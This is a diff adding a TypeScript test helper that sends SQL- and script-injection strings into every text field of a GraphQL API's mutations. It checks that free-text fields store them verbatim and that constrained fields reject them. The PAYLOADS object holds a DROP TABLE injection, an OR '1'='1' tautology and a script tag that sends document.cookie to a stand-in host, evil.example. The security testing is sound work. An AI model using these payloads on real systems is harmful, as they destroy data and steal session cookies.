@@ -1,0 +1,164 @@
+// SQL- and script-injection strings in every text field of every mutation input. Free-text fields must
+// store them verbatim (parameterised queries, no interpretation); constrained fields must reject them.
+import { FX } from './fixture';
+import { gql, type BadCase, type StoredCase } from './types';
+
+export const PAYLOADS = {
+  'SQL drop': `'); DROP TABLE "User"; --`,
+  'SQL tautology': `' OR '1'='1' --`,
+  'script tag': `<script>fetch('//evil.example/'+document.cookie)</script>`,
+} as const;
+
+type Outcome = { read: string } | { code: string };
+interface Target {
+  mutation: string;
+  document: string;
+  base: () => Record<string, unknown>;
+  writes: string[];
+  fields: Record<string, Outcome>;
+}
+
+const store = (table: string, column: string): Outcome => ({ read: `SELECT "${column}"::text AS v FROM "${table}"` });
+const REC_TEXT = { titleZh: store('Recommendation', 'titleZh'), titleEn: store('Recommendation', 'titleEn'), summaryEn: store('Recommendation', 'summaryEn'), quote: store('Recommendation', 'quote') };
+const newRec = (code: string, theme: string) => ({ code, theme, titleZh: '新', titleEn: 'New', summaryEn: 'New.', quote: '新引文' });
+const AUDITED = ['AuditEntry'];
+
+const TARGETS: Target[] = [
+  {
+    mutation: 'logProgress',
+    document: 'mutation M($input: LogProgressInput!) { logProgress(input: $input) { update { id note } } }',
+    base: () => ({ input: { code: FX.rec, note: 'Draft out', status: 'ABANDONED', reason: 'Dropped', progress: 10, evidenceUrls: ['https://example.org/a'] } }),
+    writes: ['ProgressUpdate', 'Recommendation', ...AUDITED],
+    fields: {
+      'input.code': { code: 'NOT_FOUND' },
+      'input.note': store('ProgressUpdate', 'note'),
+      'input.reason': store('ProgressUpdate', 'note'),
+      'input.evidenceUrls.0': { code: 'BAD_USER_INPUT' },
+      'input.correctsId': { code: 'BAD_USER_INPUT' },
+    },
+  },
+  {
+    mutation: 'setOwners',
+    document: 'mutation M($input: SetOwnersInput!) { setOwners(input: $input) { code } }',
+    base: () => ({ input: { code: FX.rec, owners: [{ name: 'Ministry', kind: 'MINISTRY' }] } }),
+    writes: ['Owner', 'RecommendationOwner', 'Recommendation', ...AUDITED],
+    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.owners.0.name': store('Owner', 'name') },
+  },
+  {
+    mutation: 'setTargetDate',
+    document: 'mutation M($input: SetTargetDateInput!) { setTargetDate(input: $input) { code } }',
+    base: () => ({ input: { code: FX.rec, targetDate: '2030-01-01', reason: 'Plan' } }),
+    writes: ['TargetDateRevision', 'Recommendation', ...AUDITED],
+    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.reason': store('TargetDateRevision', 'reason') },
+  },
+  {
+    mutation: 'createRecommendation',
+    document: 'mutation M($input: CreateRecommendationInput!) { createRecommendation(input: $input) { code } }',
+    base: () => ({ input: { ...newRec('GOV-SANDBOX-09', FX.theme), owners: [{ name: 'Regulator', kind: 'REGULATOR' }] } }),
+    writes: ['Recommendation', 'Owner', 'RecommendationOwner', ...AUDITED],
+    fields: { 'input.code': { code: 'BAD_USER_INPUT' }, 'input.theme': { code: 'BAD_USER_INPUT' }, ...prefixed('input.', REC_TEXT), 'input.owners.0.name': store('Owner', 'name') },
+  },
+  {
+    mutation: 'updateRecommendation',
+    document: 'mutation M($input: UpdateRecommendationInput!) { updateRecommendation(input: $input) { code } }',
+    base: () => ({ input: { code: FX.rec, titleZh: '改', titleEn: 'Changed', summaryEn: 'Changed.', quote: '改引文', quoteChangeReason: 'Typo' } }),
+    writes: ['Recommendation', 'QuoteRevision', ...AUDITED],
+    fields: {
+      'input.code': { code: 'NOT_FOUND' },
+      'input.theme': { code: 'BAD_USER_INPUT' },
+      ...prefixed('input.', REC_TEXT),
+      'input.quoteChangeReason': store('QuoteRevision', 'reason'),
+    },
+  },
+  {
+    mutation: 'archiveRecommendation',
+    document: 'mutation M($code: String!) { archiveRecommendation(code: $code) { code } }',
+    base: () => ({ code: FX.rec }),
+    writes: ['Recommendation', ...AUDITED],
+    fields: { code: { code: 'NOT_FOUND' } },
+  },
+  {
+    mutation: 'restoreRecommendation',
+    document: 'mutation M($code: String!) { restoreRecommendation(code: $code) { code } }',
+    base: () => ({ code: FX.archived }),
+    writes: ['Recommendation', ...AUDITED],
+    fields: { code: { code: 'NOT_FOUND' } },
+  },
+  {
+    mutation: 'createSourceDocument',
+    document: 'mutation M($input: CreateSourceDocumentInput!) { createSourceDocument(input: $input) { slug } }',
+    base: () => ({
+      input: {
+        slug: 'new-doc', titleZh: '新文件', titleEn: 'New document', author: 'Someone', url: 'https://example.org/doc',
+        themes: [{ code: 'NEWT', pillar: 'DEVELOPMENT', nameZh: '新主题', nameEn: 'New theme', sectionZh: '第一节' }],
+        recommendations: [newRec('DEV-NEWT-01', 'NEWT')],
+      },
+    }),
+    writes: ['SourceDocument', 'Theme', 'Recommendation', ...AUDITED],
+    fields: {
+      'input.slug': { code: 'BAD_USER_INPUT' },
+      'input.titleZh': store('SourceDocument', 'titleZh'),
+      'input.titleEn': store('SourceDocument', 'titleEn'),
+      'input.author': store('SourceDocument', 'author'),
+      'input.url': { code: 'BAD_USER_INPUT' },
+      'input.themes.0.code': { code: 'BAD_USER_INPUT' },
+      'input.themes.0.nameZh': store('Theme', 'nameZh'),
+      'input.themes.0.nameEn': store('Theme', 'nameEn'),
+      'input.themes.0.sectionZh': store('Theme', 'sectionZh'),
+      'input.recommendations.0.code': { code: 'BAD_USER_INPUT' },
+      'input.recommendations.0.theme': { code: 'BAD_USER_INPUT' },
+      ...prefixed('input.recommendations.0.', REC_TEXT),
+    },
+  },
+  {
+    mutation: 'createUser',
+    document: 'mutation M($input: CreateUserInput!) { createUser(input: $input) { name } }',
+    base: () => ({ input: { name: 'dave', role: 'ANALYST' } }),
+    writes: ['User', ...AUDITED],
+    fields: { 'input.name': { code: 'BAD_USER_INPUT' } },
+  },
+  {
+    mutation: 'issueToken',
+    document: 'mutation M($input: IssueTokenInput!) { issueToken(input: $input) { apiToken { label } } }',
+    base: () => ({ input: { userName: FX.user, label: 'ci' } }),
+    writes: ['ApiToken', ...AUDITED],
+    fields: { 'input.userName': { code: 'BAD_USER_INPUT' }, 'input.label': store('ApiToken', 'label') },
+  },
+  {
+    mutation: 'revokeToken',
+    document: 'mutation M($id: ID!) { revokeToken(id: $id) { id } }',
+    base: () => ({ id: FX.tokenId }),
+    writes: ['ApiToken', ...AUDITED],
+    fields: { id: { code: 'BAD_USER_INPUT' } },
+  },
+];
+
+function prefixed(prefix: string, fields: Record<string, Outcome>): Record<string, Outcome> {
+  return Object.fromEntries(Object.entries(fields).map(([k, v]) => [prefix + k, v]));
+}
+
+function setPath(target: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> {
+  const keys = path.split('.');
+  let node = target as Record<string, unknown>;
+  for (const key of keys.slice(0, -1)) node = node[key] as Record<string, unknown>;
+  node[keys.at(-1)!] = value;
+  return target;
+}
+
+export const INJECTED_MUTATIONS = TARGETS.map((t) => t.mutation);
+
+export function injectionCases(): { rejected: BadCase[]; stored: StoredCase[] } {
+  const rejected: BadCase[] = [];
+  const stored: StoredCase[] = [];
+  for (const t of TARGETS) {
+    for (const [path, outcome] of Object.entries(t.fields)) {
+      for (const [kind, payload] of Object.entries(PAYLOADS)) {
+        const body = gql(t.document, setPath(t.base(), path, payload));
+        const name = `${kind} in ${t.mutation} ${path}`;
+        if ('code' in outcome) rejected.push({ name, body, status: 200, code: outcome.code });
+        else stored.push({ name, body, payload, readBack: outcome.read, writes: t.writes });
+      }
+    }
+  }
+  return { rejected, stored };
+}
